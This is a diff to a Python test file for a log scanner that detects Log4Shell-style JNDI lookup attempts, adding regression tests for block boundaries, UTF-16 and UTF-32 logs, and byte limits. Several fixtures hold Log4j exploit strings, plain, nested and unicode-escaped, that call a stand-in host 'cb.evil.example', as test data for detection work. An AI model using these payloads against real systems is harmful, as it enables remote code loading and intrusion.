@@ -26,6 +26,7 @@ from clearinghouse.scan.logs import (
     CANDIDATE,
     KEEP_MARKS,
     OVERLAP,
+    SNIFF,
     LogLimits,
     LogScan,
     _sniff,
@@ -513,15 +514,17 @@ def test_a_long_cjk_utf16_log_keeps_exact_offsets_with_bounded_marks(tmp_path: P
     ]
     assert _wide_points(data, "utf-16-le", 2, scan) == ["${"] * 3
     assert (scan.lines, scan.bytes) == (40_000, len(data))
-    # the reader keeps the marks of the last KEEP_MARKS bytes (and a batch), not all
-    reader = _Wide.of(io.BytesIO(data), data[:BLOCK])
+    # the reader keeps the marks of the last KEEP_MARKS bytes of UTF-8 (and a batch), not
+    # all of them: here 40 per line, 1.6M in all, each 13 bytes of UTF-8 apart
+    reader = _Wide.of(data[:SNIFF])
     assert reader is not None
     most = 0
-    while reader.read(BLOCK):
-        most = max(most, len(reader._marks))
+    for start in range(0, len(data), BLOCK):
+        reader.transcode(data[start : start + BLOCK])
+        most = max(most, len(reader._keys))
     per_mark = len(" 漏洞报告".encode())
-    assert most <= (KEEP_MARKS + BLOCK) // per_mark + 1100
-    assert most < "".join(lines).count(" ")
+    assert most <= KEEP_MARKS // per_mark + 4096 + BLOCK // per_mark
+    assert "".join(lines).count(" ") > 1.4 * most
 
 
 @pytest.mark.parametrize(
@@ -534,3 +537,71 @@ def test_a_long_cjk_utf16_log_keeps_exact_offsets_with_bounded_marks(tmp_path: P
 )
 def test_bytes_that_are_not_wide_text_are_read_as_they_are(head: bytes) -> None:
     assert _sniff(head) is None
+
+
+# --- found by review: each failed before ---------------------------------------------------
+
+
+def test_an_attempt_nested_across_a_block_start_is_reported_once() -> None:
+    # the next block starts between the outer lookup and the inner one
+    attack = b"${env:NOPE:-${jndi:ldap://cb.evil.example/a}}"
+    at = 2 * BLOCK - OVERLAP - 12
+    data = _long_line(b" ", attack, at, LENGTH)
+    assert [(f.line, f.offset) for f in stream(data).findings] == [(2, at)]
+
+
+def test_an_escaped_attempt_in_a_backslash_run_across_a_block_start_is_reported_once() -> None:
+    attack = rb"\\\\u0024\\\\u007bjndi:ldap://cb.evil.example/a}"
+    at = 2 * BLOCK - OVERLAP - 2  # candidate bytes all around: no better place to start
+    data = _long_line(b"A", attack, at, LENGTH)
+    assert [(f.line, f.offset) for f in stream(data).findings] == [(2, at)]
+
+
+def test_a_wide_log_is_recognised_however_short_its_first_read() -> None:
+    data = "OK\r\nGET /?x=${jndi:ldap://cb.evil.example/a}\r\n".encode("utf-16-le")
+    for first in (1, 2, 3, 10, 15):
+        scan = LogScan()
+        scan_stream("mem", FirstRead(data, first), scan, LogLimits())
+        assert [(f.line, f.offset) for f in scan.findings] == [(2, 24)], first
+        assert (scan.lines, scan.bytes) == (2, len(data))
+
+
+def test_bytes_made_to_look_wide_do_not_hide_the_attempts_after_them() -> None:
+    # the first 4 KiB of a UTF-8 log, written by whoever made the first request, look like
+    # UTF-16: the log is read both ways
+    data = (
+        b"GET /?q=" + b"A\x00" * 2100 + b"\n" + b"x" * 100 + b"\n"
+        b"GET /?x=${jndi:ldap://cb.evil.example/a}\n"
+    )
+    assert _sniff(data[:SNIFF]) is not None
+    scan = stream(data)
+    assert [(f.line, f.offset) for f in scan.findings] == [(3, data.index(b"${"))]
+
+
+@pytest.mark.parametrize("codec", ["utf-16-le", "utf-32-le"])
+def test_the_bytes_of_a_wide_log_cut_in_a_code_unit_are_the_bytes_read(codec: str) -> None:
+    data = codecs.BOM_UTF16_LE + "x\n".encode("utf-16-le") + b"A"
+    if codec == "utf-32-le":
+        data = codecs.BOM_UTF32_LE + "x\n".encode(codec) + b"A"
+    assert stream(data).bytes == len(data)
+
+
+def test_the_byte_limit_inside_a_long_line_still_scans_what_was_read() -> None:
+    data = b" " * (BLOCK - 200_000) + CALLBACK + b" " * 300_000 + b"\n"
+    scan = stream(data, LogLimits(max_bytes_per_stream=BLOCK))
+    assert [f.offset for f in scan.findings] == [BLOCK - 200_000]
+    assert scan.bytes == BLOCK
+    assert [p.reason for p in scan.problems] == [f"stopped after {BLOCK} bytes (limit)"]
+
+
+class FirstRead(io.BytesIO):
+    """A stream whose first read returns ``first`` bytes (zstandard's reader stops at the
+    end of each frame), then what is asked."""
+
+    def __init__(self, data: bytes, first: int) -> None:
+        super().__init__(data)
+        self.first: int | None = first
+
+    def read(self, size: int | None = -1) -> bytes:
+        asked, self.first = (self.first or size), None
+        return super().read(asked)
